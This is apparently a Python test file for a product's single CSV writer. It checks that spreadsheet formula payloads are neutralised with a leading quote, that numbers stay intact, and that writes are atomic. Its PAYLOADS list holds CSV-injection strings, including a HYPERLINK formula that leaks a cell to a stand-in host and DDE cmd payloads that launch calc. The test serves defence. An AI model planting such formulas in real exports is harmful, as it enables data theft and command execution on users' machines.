"""The one CSV writer: formula payloads from a CRM export or a form come out inert in every CSV
the product writes, numbers stay numbers, and no other module writes CSV."""

from __future__ import annotations

import io
import os
import re
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from core.csv_out import neutralise_cell, to_csv_text, write_csv

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ["core", "features", "training", "scoring", "kpi", "monitoring", "serving", "reports"]
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
SHOWN = ["'" + p.replace("\r", "\n") for p in PAYLOADS]
"""The payloads as a spreadsheet gets them: quoted, a carriage return as a line feed."""


def _frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "customer_id": PAYLOADS,
            "segment": pd.Categorical(PAYLOADS),
            "amount": [-12.5] * n,
            "count": [-3] * n,
            "text_number": ["-12.5"] * n,
            "plain": ["ok"] * n,
        }
    )


def _check(table: pd.DataFrame) -> None:
    """Every payload is back with its leading quote; the numbers are untouched."""
    for col in ("customer_id", "segment"):
        assert table[col].tolist() == SHOWN
    assert table["amount"].tolist() == [-12.5] * len(PAYLOADS)
    assert table["count"].tolist() == [-3] * len(PAYLOADS)
    assert table["text_number"].astype(str).tolist() == ["-12.5"] * len(PAYLOADS)
    assert table["plain"].tolist() == ["ok"] * len(PAYLOADS)


def _read(source: str | Path) -> pd.DataFrame:
    text = source if isinstance(source, str) else source.read_text(encoding="utf-8")
    return pd.read_csv(io.StringIO(text), dtype={"customer_id": str, "segment": str}, sep=",")


def test_cells_are_neutralised_and_numbers_kept() -> None:
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("-12.5") == "-12.5" and neutralise_cell("+3e-2") == "+3e-2"
    assert neutralise_cell("-12.5 EUR") == "'-12.5 EUR"
    assert neutralise_cell("ok\r=1+1") == "ok\n=1+1"  # quoted by the writer, not a new row
    assert neutralise_cell(-12.5) == -12.5 and neutralise_cell(None) is None
    frame = _frame()
    before = frame.copy()
    _check(_read(to_csv_text(frame)))
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not changed
    raw = pd.read_csv(io.StringIO(to_csv_text(frame, for_people=False)), lineterminator="\n")
    assert raw["customer_id"].tolist() == PAYLOADS  # data for the loaders keeps the raw value
    indexed = to_csv_text(pd.DataFrame({"v": [1]}, index=pd.Index(["=x"])), index=True)
    assert indexed.splitlines()[1] == "'=x,1"


def test_every_writer_path_neutralises(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from churn.commands._output import Fmt, Section, emit, write_frame
    from features.dataset import Dataset
    from features.loaders import write_rejects
    from scoring.batch.job import write_list_csv

    frame = _frame()
    # the at-risk and win-back lists of `churn score`
    _check(_read(write_list_csv(frame, tmp_path / "at_risk.csv")))
    # `churn campaign --out` and the other --out files
    write_frame(frame, tmp_path / "campaign.csv")
    _check(_read(tmp_path / "campaign.csv"))
    # --format csv on stdout
    emit([Section("list", frame, table=None, in_csv=True)], Fmt.csv)  # type: ignore[arg-type]
    _check(_read(capsys.readouterr().out))
    # <table>.rejects.csv
    ds = Dataset(tables={}, as_of=pd.Timestamp("2024-01-01"), rejects={"customers": frame})
    (path,) = write_rejects(ds, tmp_path / "rejects")
    _check(_read(path))


def test_churn_export_contacts_neutralises_form_text(tmp_path: Path) -> None:
    from churn.cli import register_commands
    from scoring.store.contacts import ContactStore
    from scoring.store.predictions import PredictionStore

    url = f"sqlite:///{tmp_path / 'store.db'}"
    store = PredictionStore(url)
    row = {
        "ts": pd.Timestamp("2024-03-01").to_pydatetime(),
        "campaign_id": PAYLOADS[0],
        "channel": "phone",
        "offer": PAYLOADS[3],
        "treated": 1,
        "outcome": "accepted",
    }
    ContactStore(store.engine).add(row, PAYLOADS[1], "m1", "lead")
    store.close()
    out = tmp_path / "contacts.csv"
    app = register_commands()
    result = CliRunner().invoke(app, ["export", "contacts", "--out", str(out), "--store", url])
    assert result.exit_code == 0, result.output
    table = pd.read_csv(out, dtype=str)
    assert table.loc[0, "campaign_id"] == "'" + PAYLOADS[0]
    assert table.loc[0, "offer"] == "'" + PAYLOADS[3]
    assert table.loc[0, "customer_id"] == "'" + PAYLOADS[1]


def test_only_the_writer_writes_csv() -> None:
    """``to_csv(`` and ``csv.writer`` appear in the product only inside core/csv_out.py."""
    pattern = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for package in [*PACKAGES, "churn"]
        for path in sorted((ROOT / package).rglob("*.py"))
        if path.relative_to(ROOT).as_posix() != "core/csv_out.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    assert offenders == []


def test_a_failed_write_leaves_the_previous_file_whole(tmp_path, monkeypatch):
    """A full disk in the middle of a list: the previous list stays as it was, no stray file."""
    import errno

    path = tmp_path / "at_risk.csv"
    write_csv(pd.DataFrame({"customer_id": ["C1", "C2"]}), path)
    before = path.read_bytes()
    real = pd.DataFrame.to_csv

    def full_disk(self, out, **kwargs):
        out.write("customer_id\nC9\n")  # part of the rows reach the disk, then it is full
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    with pytest.raises(OSError, match="No space left"):
        write_csv(pd.DataFrame({"customer_id": ["C9"] * 1000}), path)
    monkeypatch.setattr(pd.DataFrame, "to_csv", real)
    assert path.read_bytes() == before and sorted(tmp_path.iterdir()) == [path]
    write_csv(pd.DataFrame({"customer_id": ["C3"]}), path)
    assert path.read_text("utf-8") == "customer_id\nC3\n"
    assert oct(path.stat().st_mode & 0o777) == oct(0o666 & ~_umask())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_whole_columns_are_neutralised_as_cell_by_cell() -> None:
    """The Arrow pass that picks which cells to change misses none: every column kind gives the
    text the cell-by-cell rule gives."""
    cells = ["=1+1", "+3", "-12.5", "-x", "@sum", "\tA", "a\rb", "a\r\nb", "\rx", "plain", "", None]
    cells += ["ä=1", "＝1", "1e-3", "12 =", "x\n=y"]
    frame = pd.DataFrame(
        {
            "str": pd.Series(cells, dtype="str"),
            "object": pd.Series(cells, dtype=object),
            "mixed": pd.Series([*cells[:-1], 7], dtype=object),
            "category": pd.Series(cells, dtype="category"),
            "number": range(len(cells)),
        }
    )
    want = frame.astype(object).map(neutralise_cell)
    want["number"] = frame["number"]
    assert to_csv_text(frame) == want.to_csv(index=False)
    assert to_csv_text(frame.head(1)) != frame.head(1).to_csv(index=False)  # "=1+1" is changed
